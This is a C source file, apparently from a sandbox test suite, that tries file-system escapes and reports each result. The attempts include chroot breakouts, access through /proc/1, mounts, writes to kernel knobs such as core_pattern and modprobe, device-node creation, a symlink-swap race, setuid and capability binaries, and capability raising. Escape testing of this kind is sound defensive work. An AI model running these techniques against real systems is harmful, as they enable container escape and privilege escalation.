/* SPDX-License-Identifier: Apache-2.0 */
/* The way out through the file system: the root, mounts, proc, devices, programs with privileges.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/capability.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "attack.h"
#include "base/banned.h"

/* ---- single files ---- */

static void write_files(char **args)
{
    while (*args) {
        const char *path = sg_word(&args);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0 && write(fd, "owned", 5) != 5) {
            (void)close(fd);
            fd = -1;
        }
        sg_say_result(path, fd);
    }
}

static void make_files(char **args)
{
    while (*args) {
        const char *path = sg_word(&args);
        sg_say_result(path, open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666));
    }
}

static void read_files(char **args)
{
    while (*args) {
        const char *path = sg_word(&args);
        char byte;
        int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        ssize_t n = fd < 0 ? -1 : read(fd, &byte, 1);
        if (n == 0) { /* there, and empty: a mask */
            n = -1;
            errno = ENODATA;
        }
        sg_say_result(path, n);
    }
}

static void list_directories(char **args)
{
    while (*args) {
        const char *path = sg_word(&args);
        DIR *d = opendir(path);
        if (!d) {
            sg_say_held(path, errno);
            continue;
        }
        for (struct dirent *e; (e = readdir(d));)
            if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
                sg_say(path, "%s", e->d_name);
        (void)closedir(d);
    }
}

/* Every mount that takes a new file. */
static void surfaces(char **args)
{
    (void)args;
    FILE *f = fopen("/proc/self/mountinfo", "re");
    if (!f)
        sg_broken("mountinfo");
    char line[4096];
    while (fgets(line, sizeof line, f)) {
        char device[32], place[512], path[600];
        if (sscanf(line, "%*d %*d %31s %*s %511s", device, place) != 2)
            sg_broken("mountinfo");
        (void)snprintf(path, sizeof path, "%s/.surface", place);
        int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
        if (fd >= 0)
            sg_say("writable", "%s", place);
    }
    (void)fclose(f);
}

/* One name that is now a file, now a link to somewhere else, for as long as the sandbox lives. */
static void swap(char **args)
{
    const char *name = sg_word(&args), *target = sg_word(&args);
    char spare[256];
    (void)snprintf(spare, sizeof spare, "%s.spare", name);
    if (fork() != 0)
        return;
    (void)setsid();
    for (;;) {
        int fd = open(spare, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd >= 0) {
            (void)!write(fd, "inside", 6);
            (void)close(fd);
        }
        (void)rename(spare, name);
        (void)symlink(target, spare);
        (void)rename(spare, name);
    }
}

/* ---- the program that runs us ---- */

/* Opens by a handle that outlives the process whose program it is, then tries to write. */
static void overwrite_through(const char *what, const char *path)
{
    int handle = open(path, O_PATH | O_CLOEXEC);
    if (handle < 0) {
        sg_say_held(what, errno);
        return;
    }
    char name[64];
    (void)snprintf(name, sizeof name, "/proc/self/fd/%d", handle);
    int fd = open(name, O_WRONLY | O_CLOEXEC);
    if (fd < 0 && errno == ETXTBSY) { /* it will not run for ever */
        sg_say("busy", "%s", what);
        sg_say_held(what, ETXTBSY);
        return;
    }
    sg_say_result(what, fd);
}

static void overwrite_init(char **args)
{
    (void)args;
    overwrite_through("init", "/proc/1/exe");
    sg_say_result("init-memory", open("/proc/1/mem", O_RDWR | O_CLOEXEC));
    sg_say_result("init-descriptor", open("/proc/1/fd/3", O_RDWR | O_CLOEXEC));
    sg_say_result("init-root", open("/proc/1/root/etc", O_RDONLY | O_CLOEXEC));
    sg_say_result("init-cwd", open("/proc/1/cwd/etc", O_RDONLY | O_CLOEXEC));
}

/* ---- the root ---- */

static void climb(const char *what, const char *marker)
{
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    (void)chroot(".");
    sg_say_result(what, access(marker, F_OK));
}

/* Each in a process of its own: a root once lost does not come back. `marker` is a path that exists
 * on the host only. */
static void break_chroot(char **args)
{
    const char *marker = sg_word(&args);
    (void)mkdir("/tmp/jail", 0755);
    for (int variant = 0; variant < 4; variant++) {
        pid_t pid = fork();
        if (pid == 0) {
            int kept = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (variant > 0 && chroot("/tmp/jail") < 0) {
                sg_say_held("chroot", errno);
                _exit(0);
            }
            if (variant == 1)
                climb("climb-from-chroot", marker);
            else if (variant == 2 && fchdir(kept) == 0)
                climb("climb-from-kept-directory", marker);
            else if (variant == 3)
                sg_say_result("pivot-again", syscall(SYS_pivot_root, ".", "."));
            else
                climb("climb", marker);
            _exit(0);
        }
        (void)waitpid(pid, NULL, 0);
    }
    (void)chdir("/tmp");
    char up[4096];
    (void)snprintf(up, sizeof up, "/..%s", marker);
    sg_say_result("dot-dot", access(up, F_OK));
    (void)snprintf(up, sizeof up, "/proc/self/root/..%s", marker);
    sg_say_result("proc-root", access(up, F_OK));
    (void)snprintf(up, sizeof up, "/proc/1/root%s", marker);
    sg_say_result("init-root", access(up, F_OK));
}

/* ---- mounts ---- */

static void mounts(char **args)
{
    (void)args;
    (void)mkdir("/tmp/m", 0755);
    sg_say_result("mount-tmpfs", mount("none", "/tmp/m", "tmpfs", 0, NULL));
    sg_say_result("mount-proc", mount("none", "/tmp/m", "proc", 0, NULL));
    sg_say_result("bind", mount("/", "/tmp/m", NULL, MS_BIND, NULL));
    sg_say_result("bind-over-proc", mount("/tmp/m", "/proc/tty", NULL, MS_BIND, NULL));
    sg_say_result("remount-proc-sys-rw",
                  mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
    sg_say_result("make-shared", mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL));
    sg_say_result("umount-mask", umount2("/proc/keys", MNT_DETACH));
    sg_say_result("umount-proc-sys", umount2("/proc/sys", MNT_DETACH));
    sg_say_result("open-tree", syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE));
    sg_say_result("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    sg_say_reached("fsmount", syscall(SYS_fsmount, -1, 0, 0));
    sg_say_reached("fspick", syscall(SYS_fspick, AT_FDCWD, "/proc", 0));
    sg_say_reached("move-mount", syscall(SYS_move_mount, -1, "", -1, "", 0));
    struct mount_attr none = { 0 };
    sg_say_result("mount-setattr",
                  syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, &none, sizeof none));
}

/* ---- kernel settings ---- */

static int knobs, knobs_open;

/* Opening is enough to know; nothing is written. */
static int try_knob(const char *path, const struct stat *st, int type, struct FTW *where)
{
    (void)st, (void)where;
    if (type != FTW_F)
        return 0;
    knobs++;
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        knobs_open++;
        sg_say_got(path);
        (void)close(fd);
    }
    return 0;
}

static void settings(char **args)
{
    (void)args;
    static const char *const paths[] = {
        "/proc/sysrq-trigger",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/kernel/domainname",
        "/proc/sys/vm/panic_on_oom",
        "/proc/sys/fs/binfmt_misc/register",
        "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages",
        "/proc/irq/default_smp_affinity",
    };
    for (size_t i = 0; i < SG_COUNT_OF(paths); i++)
        sg_say_result(paths[i], open(paths[i], O_WRONLY | O_CLOEXEC));
    if (nftw("/proc/sys", try_knob, 16, FTW_PHYS) < 0)
        sg_broken("/proc/sys");
    sg_say("settings", "%d", knobs);
    sg_say("settings_open", "%d", knobs_open);
}

/* ---- devices ---- */

static void devices(char **args)
{
    (void)args;
    static const struct {
        const char *name;
        mode_t type;
        unsigned major, minor;
    } nodes[] = {
        { "whiteout", S_IFCHR, 0, 0 }, { "mem", S_IFCHR, 1, 1 },  { "kmsg", S_IFCHR, 1, 11 },
        { "disk", S_IFBLK, 254, 0 },   { "loop", S_IFBLK, 7, 0 }, { "zero", S_IFCHR, 1, 5 },
    };
    for (size_t i = 0; i < SG_COUNT_OF(nodes); i++) {
        char path[64];
        (void)snprintf(path, sizeof path, "/var/tmp/node-%s", nodes[i].name);
        sg_say_result(nodes[i].name,
                      mknod(path, nodes[i].type | 0666, makedev(nodes[i].major, nodes[i].minor)));
    }
    int fd = open("/var/tmp/node-zero", O_RDONLY | O_CLOEXEC);
    char byte;
    sg_say_result("use-device", fd < 0 ? -1 : read(fd, &byte, 1));
}

/* ---- programs with privileges ---- */

static uint64_t permitted(void)
{
    struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3, 0 };
    struct __user_cap_data_struct data[2] = { 0 };
    (void)syscall(SYS_capget, &head, data);
    return (uint64_t)data[1].permitted << 32 | data[0].permitted;
}

static void gain(char **args)
{
    const char *what = sg_word(&args);
    sg_say("euid", "%u", (unsigned)geteuid());
    if (geteuid() == 0 || getegid() == 0 || permitted())
        sg_say_got(what);
    else
        sg_say_held(what, EPERM);
}

static void copy_self(const char *path)
{
    char block[65536];
    int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int to = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (from < 0 || to < 0)
        sg_broken(path);
    for (ssize_t n; (n = read(from, block, sizeof block)) > 0;)
        if (write(to, block, (size_t)n) != n)
            sg_broken(path);
    (void)close(from);
    (void)close(to);
}

static void run_as_user(const char *path, const char *what)
{
    pid_t pid = fork();
    if (pid == 0) {
        if (syscall(SYS_setresgid, 1000, 1000, 1000) < 0 ||
            syscall(SYS_setresuid, 1000, 1000, 1000) < 0) {
            sg_say_held(what, errno); /* one id inside: nobody else to be */
            _exit(0);
        }
        execl(path, path, "gain", what, NULL);
        sg_say_held(what, errno);
        _exit(0);
    }
    (void)waitpid(pid, NULL, 0);
}

/* Root inside prepares a program, an ordinary user inside runs it. */
static void privileged_programs(char **args)
{
    const char *dir = sg_word(&args);
    char path[256];
    (void)snprintf(path, sizeof path, "%s/su", dir);
    copy_self(path);
    if (chmod(path, 06755) < 0)
        sg_broken("chmod");
    run_as_user(path, "setuid-program");
    (void)unlink(path);
    (void)snprintf(path, sizeof path, "%s/cap", dir);
    copy_self(path);
    const struct vfs_cap_data cap = { .magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
                                      .data = { { .permitted = 1u << CAP_CHOWN } } };
    if (setxattr(path, "security.capability", &cap, XATTR_CAPS_SZ_2, 0) < 0)
        sg_say_held("capability-xattr", errno);
    run_as_user(path, "capability-program");
    (void)unlink(path);
}

static void raise_capabilities(char **args)
{
    (void)args;
    const unsigned wanted[] = { CAP_SYS_ADMIN, CAP_SYS_PTRACE, CAP_NET_ADMIN, CAP_SYS_MODULE,
                                CAP_MKNOD,     CAP_SYS_RAWIO,  CAP_SYS_TIME,  CAP_DAC_READ_SEARCH };
    for (size_t i = 0; i < SG_COUNT_OF(wanted); i++) {
        char what[32];
        struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3, 0 };
        struct __user_cap_data_struct data[2] = { 0 };
        data[0].permitted = data[0].effective = data[0].inheritable = 1u << wanted[i];
        (void)snprintf(what, sizeof what, "capset-%u", wanted[i]);
        pid_t pid = fork(); /* a change for the worse would end the other tries */
        if (pid == 0) {
            sg_say_result(what, syscall(SYS_capset, &head, data));
            _exit(0);
        }
        (void)waitpid(pid, NULL, 0);
        (void)snprintf(what, sizeof what, "ambient-%u", wanted[i]);
        sg_say_result(what, prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, wanted[i], 0, 0));
    }
}

const struct sg_attack sg_attacks_on_files[] = {
    { "write-files", write_files },
    { "make-files", make_files },
    { "read-files", read_files },
    { "list", list_directories },
    { "surfaces", surfaces },
    { "swap", swap },
    { "overwrite-init", overwrite_init },
    { "break-chroot", break_chroot },
    { "mounts", mounts },
    { "settings", settings },
    { "devices", devices },
    { "gain", gain },
    { "privileged-programs", privileged_programs },
    { "raise-capabilities", raise_capabilities },
    { NULL, NULL },
};
